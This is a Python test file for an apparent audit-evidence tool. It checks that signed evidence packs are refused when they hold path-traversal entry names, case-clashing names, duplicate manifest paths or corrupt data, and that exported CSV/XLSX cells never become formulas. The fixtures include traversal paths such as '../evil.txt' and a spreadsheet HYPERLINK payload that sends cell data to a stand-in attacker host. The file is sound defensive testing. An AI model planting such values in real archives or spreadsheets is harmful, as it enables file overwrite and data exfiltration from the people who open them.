"""Evidence packs an attacker shaped: unsafe names, duplicate manifest paths, corrupt data,
and spreadsheet formulas planted in collector data."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from datetime import UTC, datetime

import pytest

from pixaudit.evidence.canonical import canonical_bytes
from pixaudit.reports import packs, signing
from pixaudit.reports.selectors import FindingRow
from pixaudit.reports.verify import verify_pack

pytestmark = pytest.mark.smoke


def _resign(src, dst, *, extra: dict[str, bytes] | None = None, mutate_files=None) -> None:
    """Rebuild a pack with ``extra`` members added, then a consistent manifest, signature and
    SHA256SUMS (signed with the app's key): only the verifier's own checks can refuse it."""
    extra = extra or {}
    with zipfile.ZipFile(src) as zin:
        members = {
            i.filename: zin.read(i.filename)
            for i in zin.infolist()
            if i.filename not in (packs.MANIFEST, packs.SIGNATURE, packs.SUMS)
        }
        manifest = json.loads(zin.read(packs.MANIFEST))
    members.update(extra)
    for name, data in extra.items():
        digest = hashlib.sha256(data).hexdigest()
        manifest["files"].append(
            {"path": name, "sha256": digest, "size": len(data), "evidence_ids": [], "controls": []}
        )
    if mutate_files:
        manifest["files"] = mutate_files(manifest["files"])
    manifest_bytes = canonical_bytes(manifest)
    signature = signing.sign(manifest_bytes)
    everything = {**members, packs.MANIFEST: manifest_bytes, packs.SIGNATURE: signature}
    sums = "".join(
        f"{hashlib.sha256(data).hexdigest()}  {name}\n" for name, data in sorted(everything.items())
    )
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in everything.items():
            zout.writestr(name, data)
        zout.writestr(packs.SUMS, sums)


def test_resigned_pack_control_case_verifies(pack_path, tmp_path):
    good = tmp_path / "good.zip"
    _resign(pack_path, good, extra={"controls/CC6.1/notes.txt": b"fine"})
    result = verify_pack(good, public_key_pem=signing.public_key_pem())
    assert result.ok, result.summary()


@pytest.mark.parametrize(
    "name", ["../evil.txt", "controls/../../evil.txt", "/etc/evil.txt", "controls\\..\\evil.txt",
             "C:/evil.txt", "controls//evil.txt", "controls/./evil.txt"],
)  # fmt: skip
def test_unsafe_entry_names_are_refused(pack_path, tmp_path, name):
    bad = tmp_path / "traversal.zip"
    _resign(pack_path, bad, extra={name: b"planted"})
    result = verify_pack(bad, public_key_pem=signing.public_key_pem())
    assert not result.ok
    assert any(repr(name) in p and "unsafe" in p for p in result.problems), result.problems


def test_names_differing_only_in_case_are_refused(pack_path, tmp_path):
    bad = tmp_path / "case.zip"
    _resign(pack_path, bad, extra={"REPORT.PDF": b"another report"})
    result = verify_pack(bad)
    assert not result.ok
    assert any("REPORT.PDF" in p for p in result.problems), result.problems


def test_a_path_listed_twice_in_the_manifest_is_refused(pack_path, tmp_path):
    def duplicate(files):
        pdf = next(f for f in files if f["path"] == packs.REPORT_PDF)
        return [{**pdf, "sha256": "0" * 64, "size": 1}, *files]

    bad = tmp_path / "twice.zip"
    _resign(pack_path, bad, mutate_files=duplicate)
    result = verify_pack(bad)
    assert not result.ok
    assert any("report.pdf" in p and "twice" in p for p in result.problems), result.problems


def test_corrupt_compressed_data_is_reported_not_raised(pack_path, tmp_path):
    raw = bytearray(pack_path.read_bytes())
    with zipfile.ZipFile(pack_path) as zf:
        info = zf.getinfo("evidence-index.csv")
    # Local header: 30 bytes + name + extra, then the compressed data.
    name_len = int.from_bytes(raw[info.header_offset + 26 : info.header_offset + 28], "little")
    extra_len = int.from_bytes(raw[info.header_offset + 28 : info.header_offset + 30], "little")
    start = info.header_offset + 30 + name_len + extra_len
    for offset in range(start, start + info.compress_size):
        raw[offset] ^= 0xFF
    bad = tmp_path / "corrupt.zip"
    bad.write_bytes(bytes(raw))
    result = verify_pack(bad)
    assert not result.ok
    assert any(p.startswith("evidence-index.csv:") for p in result.problems), result.problems


_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1"]


def test_collector_text_cannot_become_a_spreadsheet_formula(stored_report, tmp_path, monkeypatch):
    at = datetime(2026, 1, 1, tzinfo=UTC)

    def planted(*, section):
        for i, text in enumerate(_FORMULAS):
            yield FindingRow("demo.check", text, "fail", "high", text, at, 1000 + i)

    monkeypatch.setattr(packs, "section_results", planted)
    from pixaudit.reports.services import pack_build

    path = tmp_path / "pack.zip"
    with open(path, "wb") as fh:
        pack_build(report=stored_report, fileobj=fh)
    with zipfile.ZipFile(path) as zf:
        csv_text = zf.read("controls/CC6.1/results.csv").decode()
        xlsx = zf.read("controls/CC6.1/results.xlsx")
    import csv

    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert len(rows) == len(_FORMULAS)
    for row in rows:
        for column in ("resource", "message"):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert verify_pack(path).ok
